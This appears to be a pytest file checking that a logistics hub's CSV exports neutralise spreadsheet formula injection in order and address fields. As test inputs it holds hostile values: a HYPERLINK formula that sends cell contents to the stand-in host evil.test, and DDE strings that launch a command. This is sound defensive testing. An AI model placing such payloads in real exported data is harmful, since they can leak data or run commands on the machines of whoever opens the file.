"""CSV destinations are opened in spreadsheets: a partner's N1 name or a shopper's address that starts like a
formula (=HYPERLINK(...), +cmd|..., @SUM(...)) is written as text, and a negative quantity stays a number."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from crossdock.core.hub import Hub
from crossdock.mappings.csv import neutralised, order_rows
from tests.hub.conftest import base_config, receive, write_config
from tests.hub.edi import interchange, order

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-", "'-"),
        ("-5", "-5"),
        ("-12.50", "-12.50"),
        ("+1.5E3", "+1.5E3"),
        ("DC 42 = main", "DC 42 = main"),
        ("O'Brien", "O'Brien"),
        ("", ""),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_written_as_text_and_a_number_is_not(value: str, written: str) -> None:
    assert neutralised(value) == written


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


COLUMNS = [("PO", "po_number"), ("Name", "ship_to.name"), ("Qty", "line.quantity"), ("Price", "line.unit_price")]


def test_order_rows_neutralise_text_by_default_and_leave_numbers_alone() -> None:
    data = {
        "po_number": "@SUM(A1:A9)",
        "ship_to": {"name": HOSTILE},
        "lines": [{"quantity": Decimal("-2"), "unit_price": "-12.50"}, {"quantity": -3, "unit_price": 4.5}],
    }
    assert rows(order_rows(data, COLUMNS)) == [
        ["PO", "Name", "Qty", "Price"],
        ["'@SUM(A1:A9)", "'" + HOSTILE, "-2", "-12.50"],
        ["'@SUM(A1:A9)", "'" + HOSTILE, "-3", "4.5"],
    ]
    assert rows(order_rows(data, COLUMNS, neutralise=False))[1] == ["@SUM(A1:A9)", HOSTILE, "-2", "-12.50"]


def test_an_850_with_a_formula_in_its_ship_to_name_reaches_the_warehouse_as_text(
    tmp_path: Path, store_url: str
) -> None:
    columns = [{"header": h, "field": f} for h, f in [("PO", "po_number"), ("ShipTo", "ship_to.name")]]
    columns.append({"header": "Qty", "field": "line.quantity"})
    data = base_config(tmp_path, store_url)
    data["sinks"]["west"] |= {"format": "csv", "columns": columns}
    data["sinks"]["east"] |= {"format": "csv", "columns": columns, "neutralise_formulas": False}
    data["routing"] = {"rules": [{"match": {"state": ["CA"]}, "to": "west"}], "default": "east"}
    hub = Hub(write_config(tmp_path, data))
    try:
        west, east = order("+PO-1"), order("+PO-2", state="NY")
        for o in (west, east):
            o.parties[0].name = HOSTILE
        receive(hub, interchange([west, east]))
        hub.dispatcher().drain()
    finally:
        hub.close()

    (written,) = (tmp_path / "west").glob("*.csv")
    assert rows(written.read_bytes())[1] == ["'+PO-1", "'" + HOSTILE, "5"]
    (raw,) = (tmp_path / "east").glob("*.csv")
    assert rows(raw.read_bytes())[1] == ["+PO-2", HOSTILE, "5"], "neutralise_formulas: false writes values raw"
